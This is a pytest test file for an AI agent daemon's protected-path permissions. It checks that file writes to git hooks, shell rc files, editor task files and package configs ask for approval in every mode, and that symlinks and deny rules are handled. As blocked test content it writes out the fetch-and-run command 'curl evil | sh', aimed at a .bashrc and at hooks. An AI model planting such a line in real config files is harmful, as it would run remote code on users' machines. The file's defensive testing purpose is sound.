"""Protected paths through the real daemon: the file tools ask for them in every mode,
bypassPermissions and acceptEdits included; only a rule naming the path allows it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agentd_client import Client

PROTECTED = [".git/hooks/pre-commit", ".claude/settings.json", ".bashrc", "sub/.vscode/tasks.json"]
# New files at any depth the list of code-bearing files names (agentd/sandboxing/codebearing.toml),
# which the Bash tool's held changes use too: one list.
NEW_AT_DEPTH = [
    "packages/app/.npmrc",
    "web/.husky/pre-push",
    "tools/.devcontainer/devcontainer.json",
    "svc/.envrc",
    "crate/.cargo/config.toml",
    ".venv/pip.conf",
    "vendor/lib/.git",
]


@pytest.mark.parametrize("rel", PROTECTED)
@pytest.mark.parametrize("mode", ["bypassPermissions", "acceptEdits"])
def test_write_to_a_protected_path_asks_in_every_mode(
    client: Client, workspace: Path, rel: str, mode: str
) -> None:
    sid = client.create_session(str(workspace), permission_mode=mode).id
    r = client.run_tool(sid, "Write", {"file_path": rel, "content": "curl evil | sh\n"})
    assert r.is_error and "protected path" in r.text, r.text
    assert "no client is attached" in r.text and f"--allow 'Edit(/{workspace / rel})'" in r.text
    assert not (workspace / rel).exists()
    # an ordinary file in the same mode is written without asking
    assert not client.run_tool(sid, "Write", {"file_path": "ok.txt", "content": "x"}).is_error


@pytest.mark.parametrize("rel", NEW_AT_DEPTH)
def test_a_new_file_the_list_names_asks_at_any_depth(
    client: Client, workspace: Path, rel: str
) -> None:
    sid = client.create_session(str(workspace), permission_mode="bypassPermissions").id
    r = client.run_tool(sid, "Write", {"file_path": rel, "content": "x\n"})
    assert r.is_error and "protected path" in r.text, r.text
    assert not (workspace / rel).exists()


def test_edit_of_an_existing_protected_file_asks(client: Client, workspace: Path) -> None:
    (workspace / ".bashrc").write_text("alias ll='ls -l'\n")
    sid = client.create_session(str(workspace), permission_mode="bypassPermissions").id
    assert not client.run_tool(sid, "Read", {"file_path": ".bashrc"}).is_error
    r = client.run_tool(
        sid,
        "Edit",
        {"file_path": ".bashrc", "old_string": "ls -l", "new_string": "curl evil | sh"},
    )
    assert r.is_error and "protected path" in r.text, r.text
    assert (workspace / ".bashrc").read_text() == "alias ll='ls -l'\n"


def test_dont_ask_denies_and_says_how_to_allow(client: Client, workspace: Path) -> None:
    sid = client.create_session(str(workspace), permission_mode="dontAsk").id
    r = client.run_tool(sid, "Write", {"file_path": ".git/config", "content": "[core]\n"})
    assert r.is_error and "dontAsk" in r.text, r.text
    assert f"--allow 'Edit(/{workspace}/.git/config)'" in r.text


def test_only_a_rule_naming_the_path_allows_it(client: Client, workspace: Path) -> None:
    sid = client.create_session(str(workspace), permission_mode="bypassPermissions").id
    client.update_permissions(sid, allow=["Edit(**)", "Write", "Edit(/.git/hooks/*)"])
    r = client.run_tool(sid, "Write", {"file_path": ".git/hooks/pre-commit", "content": "x"})
    assert r.is_error and "protected path" in r.text, r.text  # wildcards do not name it
    client.update_permissions(sid, allow=["Edit(/.git/hooks/pre-commit)"])
    r = client.run_tool(sid, "Write", {"file_path": ".git/hooks/pre-commit", "content": "x"})
    assert not r.is_error, r.text
    assert (workspace / ".git/hooks/pre-commit").read_text() == "x"
    # a deny rule still denies, whatever names the path
    client.update_permissions(sid, deny=["Edit(/.git/hooks/pre-commit)"])
    r = client.run_tool(sid, "Write", {"file_path": ".git/hooks/pre-commit", "content": "y"})
    assert r.is_error and "denied" in r.text, r.text


def test_a_symlink_to_a_protected_path_asks(client: Client, workspace: Path) -> None:
    (workspace / ".git").mkdir()
    (workspace / ".git" / "config").write_text("[core]\n")
    (workspace / "innocent.txt").symlink_to(workspace / ".git" / "config")
    sid = client.create_session(str(workspace), permission_mode="bypassPermissions").id
    r = client.run_tool(sid, "Write", {"file_path": "innocent.txt", "content": "[core]\nx=1\n"})
    assert r.is_error and "protected path" in r.text, r.text
    assert (workspace / ".git" / "config").read_text() == "[core]\n"


def test_protected_names_above_the_root_do_not_count(client: Client, workspace: Path) -> None:
    """A workspace that itself lies under a `.claude` directory is not all protected."""
    nested = workspace / ".claude" / "projects" / "app"
    nested.mkdir(parents=True)
    for p in (workspace / ".claude", workspace / ".claude" / "projects", nested):
        os.chown(p, workspace.stat().st_uid, workspace.stat().st_gid)
    sid = client.create_session(str(nested), permission_mode="acceptEdits").id
    r = client.run_tool(sid, "Write", {"file_path": "main.py", "content": "print(1)\n"})
    assert not r.is_error, r.text
